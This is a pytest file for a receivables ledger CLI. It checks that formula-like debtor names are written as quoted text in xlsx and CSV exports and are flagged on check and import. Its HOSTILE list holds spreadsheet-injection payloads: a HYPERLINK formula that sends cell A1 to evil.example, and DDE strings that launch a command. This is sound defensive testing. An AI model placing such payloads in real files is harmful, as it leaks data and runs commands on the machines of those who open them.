"""Attacks: a debtor named like a formula became live in the xlsx and CSV exports; import took it silently."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from conftest import DEBTOR, receivable

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
NAME = HOSTILE[0]


def _ledger() -> dict[str, str]:
    rec = receivable("AR-1", "- {date: 2026-01-05, type: invoice, amount: '100.00', ref: INV-1}")
    debtor = DEBTOR.replace("name: 华东某置业有限公司", f"name: {json.dumps(NAME)}")
    return {"ledger/debtors/D-0001.yaml": debtor, "ledger/east/AR-1.yaml": rec}


def test_formula_debtor_name_is_text_in_xlsx_export(qq, tmp_path: Path) -> None:
    from openpyxl import load_workbook
    out = tmp_path / "out.xlsx"
    code, _ = qq("export", "--xlsx", str(out), "--as-of", "2026-11-30", files=_ledger())
    assert code == 0
    book = load_workbook(out)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells, "the debtor name is not in the workbook at all"
    assert all(c.data_type == "s" for c in cells), [c.data_type for c in cells]
    assert not any(c.data_type == "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)


def test_formula_like_cells_are_quoted_in_csv_export(qq, tmp_path: Path) -> None:
    files = _ledger()
    files["ledger/east/AR-1.yaml"] = receivable("AR-1", "\n".join(
        f"- {{date: 2026-01-0{i + 1}, type: visit, note: {json.dumps(h)}}}"
        for i, h in enumerate(HOSTILE)))
    out = tmp_path / "out.csv"
    code, _ = qq("export", "--csv", str(out), "--as-of", "2026-11-30", files=files)
    assert code == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert "'" + NAME in cells
    for hostile in HOSTILE:  # a CR inside a cell is written as a line feed, inside quotes
        assert "'" + hostile.replace("\r", "\n") in cells, hostile
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r", "\n")]
    assert all(len(row) == len(rows[0]) for row in rows)  # no cell spilled into a new row


def test_formula_like_cells_are_quoted_in_report_csv(qq) -> None:
    code, out = qq("age", "--by", "debtor", "--format", "csv", "--as-of", "2026-11-30", files=_ledger())
    assert code == 0, out
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert "'" + NAME in cells


def test_formula_debtor_name_is_flagged_by_check(qq) -> None:
    code, out = qq("check", "--as-of", "2026-11-30", "--format", "json", files=_ledger())
    assert '"S018"' in out and "ledger/debtors/D-0001.yaml" in out


def test_csv_import_flags_formula_customer_name(tmp_path: Path, qq) -> None:
    qq("check", "--as-of", "2026-11-30", files={})  # the policy files only
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("客户名称,应收金额,开票日期,单位,经办人\n"
                     f"\"{NAME.replace(chr(34), chr(34) * 2)}\",100.00,2026-01-05,east,li.si\n",
                     encoding="utf-8")
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text("columns: {客户名称: debtor, 应收金额: invoiced, 开票日期: date, 单位: unit, "
                       "经办人: responsible}\n", encoding="utf-8")
    from click.testing import CliRunner
    from qingqian.cli import cli
    result = CliRunner().invoke(cli, ["--root", str(tmp_path), "import", str(sheet), "--mapping",
                                      str(mapping), "--as-of", "2026-11-30", "--dry-run"])
    assert "S018" in result.output + (result.stderr if result.stderr_bytes is not None else "")
